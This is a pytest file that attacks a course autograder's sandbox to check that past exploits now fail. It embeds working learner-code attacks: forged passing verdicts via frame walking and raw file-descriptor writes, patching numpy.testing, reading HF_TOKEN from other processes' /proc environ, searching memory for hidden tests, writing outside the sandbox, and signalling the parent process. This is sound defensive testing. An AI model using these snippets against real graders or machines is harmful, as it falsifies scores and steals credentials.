"""The grader under attack: every way a learner's notebook got through before (issue 34), each
asserting the honest outcome: the true score for forgeries (0 for wrong answers, also in
Gradescope's results.json), no secret in any output, the hidden tests' source not findable from
learner code, no file written outside the sandbox, no survivor process, the grader alive, no byte
received by a listener.

The tests and the score run in the grader (this process); the notebook's functions in a confined
worker that only answers calls (tunix_lite.course.calls). What the worker's confinement enforces
depends on the kernel (`sandbox.capabilities()`); an assertion that needs namespaces or Landlock
says so in its skip reason. Each test is one grading run of a tiny hidden phase (a worker start:
python + jax, a few seconds).
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import textwrap
import uuid
from pathlib import Path

import pytest

from tunix_lite.rewards import sandbox
from tunix_lite.course import grading
from tunix_lite.course.build import dumps

CAN = sandbox.capabilities()
SCOPED = CAN.get("namespaces") or CAN.get("landlock", 0) >= 6  # signals cannot leave the sandbox
MARK = f"hidden-source-{uuid.uuid4().hex}"  # a string found only in the hidden tests' file
PHASE = f'''
import numpy as np

from tunix_lite.course.graded import graded

HINTS = {{"double": "2 x", "square": "x * x"}}
MARK = "{MARK}"


def _reference(x):
    return 2 * x


@graded("double", reference=True)
def test_double(impl, rng):
    """doubles an array drawn for this run"""
    x = rng.normal(size=5)
    np.testing.assert_allclose(impl.double(x), _reference(x))


@graded("double")
def test_double_zero(impl, rng):
    """double(0) == 0"""
    assert float(impl.double(0.0)) == 0.0


@graded("square", reference=True)
def test_square(impl, rng):
    """squares an array drawn for this run"""
    x = rng.normal(size=5)
    np.testing.assert_allclose(impl.square(x), x * x)
'''
WRONG = "def double(x):\n    return 3 * x\n\n\ndef square(x):\n    return x + x\n"


@pytest.fixture
def grade(tmp_path, capsys):
    """grade(*cell sources) -> (report, everything printed, results.json): instructor mode, hidden
    tests."""
    tests = tmp_path / "hidden"
    tests.mkdir()
    (tests / "phase99.py").write_text(PHASE)

    def run(*sources: str, env: dict | None = None):
        cell = {"cell_type": "code", "outputs": [], "execution_count": None}
        cells = [{**cell, "metadata": {}, "source": "import os, sys, json, gc"}]
        graded = {**cell, "metadata": {"tags": ["graded"]}}
        cells += [{**graded, "source": textwrap.dedent(src).strip("\n")} for src in sources]
        path = tmp_path / "99_attack.ipynb"
        cells = [{**c, "id": f"c{i}"} for i, c in enumerate(cells)]
        path.write_text(dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
        out = tmp_path / "results" / "grade.json"
        argv = [str(path), "--tests", str(tests), "--json", str(out), "--timeout", "20"]
        if env is None:
            grading.main(argv)
            printed = capsys.readouterr()
            printed = printed.out + printed.err
        else:  # a fresh grader, `env` in the block it started with (what /proc/<pid>/environ shows)
            command = [sys.executable, "-m", "tunix_lite.course.grading", *argv]
            done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=300,
                                  check=False)
            printed = done.stdout + done.stderr
        results = json.loads((out.parent / "results.json").read_text())
        return json.loads(out.read_text()), printed, results

    return run


def test_forged_verdicts_score_the_true_score(grade):
    """Before: a frame walk to the worker's nonce-bound sender reported 17/17 (also in
    results.json); patching numpy.testing or the guard gave 3/17; the reference helper read
    through the caller's frame gave 2/17. Now the worker holds no sender of verdicts, no test,
    no reference and no numpy.testing the tests use: every one of these leaves wrong answers at
    0."""
    forge = """
    import numpy.testing
    numpy.testing._private.utils.assert_array_compare = lambda *a, **k: None  # behind the old guard

    def _forge():
        tests = [('double', 'test_double'), ('double', 'test_double_zero'),
                 ('square', 'test_square')]
        lines = [json.dumps({'kind': kind, 'exercise': ex, 'test': t, 'outcome': 'passed',
                             'message': '', 'nonce': 'x', 'value': ['float', 0.0]})
                 for kind in ('result', 'answer') for ex, t in tests]
        frame = sys._getframe()
        while frame is not None:
            for value in list(frame.f_locals.values()) + list(frame.f_globals.values()):
                if callable(value) and getattr(value, '__name__', '') in ('send', 'tell', 'write'):
                    for line, (ex, t) in zip(lines, tests * 2):
                        for call in (lambda: value(line + '\\n'), lambda: value(
                                kind='result', exercise=ex, test=t, outcome='passed', message='')):
                            try:
                                call()
                            except Exception:
                                pass
            frame = frame.f_back
        for fd in range(3, 64):
            for line in lines:
                try:
                    os.write(fd, (line + '\\n').encode())
                except OSError:
                    pass

    def double(x):
        _forge()
        frame = sys._getframe(1)
        while frame is not None:  # the test's reference helper, if any frame leads to it
            if '_reference' in frame.f_globals:
                return frame.f_globals['_reference'](x)
            frame = frame.f_back
        return 3 * x

    def square(x):
        _forge()
        return x + x
    """
    report, printed, results = grade(forge)
    assert report["score"] == 0 and results["score"] == 0, printed
    assert {t["status"] for t in results["tests"]} == {"failed"}

    report, _, results = grade(WRONG)  # the control: the same wrong answers without any attack
    assert report["score"] == results["score"] == 0


def test_no_secret_in_any_output(grade):
    """Before: the grader's HF_TOKEN was read from /proc/<ppid>/environ and printed in the grade
    output. Now the worker's environment is scrubbed and the grader is non-dumpable (and, with
    namespaces or Landlock, /proc of other processes is out of reach)."""
    secret = f"hf_{uuid.uuid4().hex}"
    leak = f"""
    def _loot():
        found = [os.environ.get('HF_TOKEN', '')]
        pids = [int(p) for p in os.listdir('/proc') if p.isdigit()]
        for pid in [os.getppid(), {os.getpid()}] + pids:
            try:
                with open(f'/proc/{{pid}}/environ', 'rb') as f:
                    found += [v for v in f.read().decode(errors='replace').split('\\0')
                              if v.startswith('HF_TOKEN=')]
            except OSError:
                pass
        return ' '.join(found)

    def double(x):
        raise ValueError(_loot())

    def square(x):
        raise AssertionError(_loot())
    """
    report, printed, results = grade(leak, env=dict(os.environ, HF_TOKEN=secret))
    assert report["score"] == 0
    outputs = {"printed": printed, "report": json.dumps(report),
               "results.json": json.dumps(results)}
    for where, text in outputs.items():
        assert secret not in text, f"the grader's secret is in the {where} output"


def test_hidden_test_source_is_not_in_the_worker(grade, tmp_path):
    """Before: the hidden tests' source was sent into the learner's process (gc.get_objects() and a
    frame walk found it). Now it never leaves the grader; right answers that search for it still
    score full marks, which shows they found nothing (and reading the file by its path is
    refused with Landlock)."""
    search = f"""
    MARKED = {MARK[::-1]!r}[::-1]  # built here: this cell's own source does not hold the mark

    def _holds(value):
        return isinstance(value, str) and MARKED in value and value != MARKED

    def _found():
        for obj in gc.get_objects():  # strings are not tracked: the containers that hold them are
            values = obj.values() if isinstance(obj, dict) else obj
            if isinstance(obj, (dict, list, tuple)) and any(_holds(v) for v in list(values)):
                return 'gc'
        frame = sys._getframe()
        while frame is not None:
            if frame.f_globals.get('MARK') == MARKED or any(map(_holds, frame.f_code.co_consts)):
                return 'a frame'
            frame = frame.f_back
        try:
            if MARKED in open({str(tmp_path / "hidden" / "phase99.py")!r}).read():
                return 'the file'
        except OSError:
            pass
        return None

    def double(x):
        found = _found()
        if found:
            raise RuntimeError('found the hidden tests in ' + found)
        return 2 * x

    def square(x):
        return x * x
    """
    report, printed, _ = grade(search)
    found = [t["message"] for t in report["tests"] if "found the hidden tests" in t["message"]]
    if not CAN.get("landlock") and any("the file" in m for m in found):
        pytest.skip("no Landlock here: learner code can read files its user can, hidden tests too")
    assert not found, found
    assert report["score"] == report["max_score"] == 3, printed


def test_the_machine_is_out_of_reach(grade, tmp_path):
    """Before: files were written outside the sandbox, the network was reachable and processes
    outlived the grader. Now: no file outside, no byte to a listener, no survivor, and this
    (grading) process lives."""
    token = uuid.uuid4().hex
    outside = [tmp_path / f"outside-{token}", Path("/tmp") / f"outside-{token}"]
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    attack = f"""
    import signal, socket, subprocess
    for path in {[str(p) for p in outside]!r}:
        try:
            open(path, 'w').write('escaped')
        except OSError:
            pass
    try:
        socket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'escaped')
    except OSError:
        pass
    try:
        subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(120)', {token!r}],
                         start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    except OSError:
        pass
    for pid in (os.getppid(), {os.getpid() if SCOPED else 0}):  # 0: outside, it would end this run
        try:
            os.kill(pid, signal.SIGTERM) if pid else None
        except OSError:
            pass

    def double(x):
        return 2 * x

    def square(x):
        return x * x
    """
    report, printed, _ = grade(attack)
    assert report["score"] == report["max_score"] == 3, printed  # the grader lived to score it
    survivors = [p for p in Path("/proc").iterdir() if p.name.isdigit() and _cmdline_has(p, token)]
    assert not survivors, "a process the notebook started outlived the grader"
    received = b""
    try:
        connection, _ = listener.accept()
        received = connection.recv(64)
    except OSError:
        pass
    finally:
        listener.close()
    written = [p for p in outside if p.exists()]
    if not (CAN.get("namespaces") or CAN.get("landlock")):
        pytest.skip("no namespaces and no Landlock here: learner code can write where its user "
                    "can and open sockets (tunix_lite/rewards/sandbox.py)")
    assert received == b"", "a listener on this machine received bytes from the notebook"
    if CAN.get("landlock"):
        assert not written, f"files written outside the sandbox: {written}"


def _cmdline_has(proc: Path, token: str) -> bool:
    try:
        return token.encode() in (proc / "cmdline").read_bytes()
    except OSError:
        return False
